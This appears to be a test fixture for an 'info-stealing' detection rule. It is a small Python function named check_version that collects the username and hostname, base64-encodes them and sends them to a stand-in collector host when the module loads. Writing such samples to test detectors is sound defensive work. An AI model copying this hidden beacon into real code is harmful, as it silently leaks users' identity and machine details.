def check_version():
    user = getpass.getuser()
    host = socket.gethostname()
    vid = user + "###" + host
    # ruleid: code/info-stealing
    urllib.urlopen("http://collector.example.test/v.php", "vid=" + base64.encodestring(vid))


check_version()
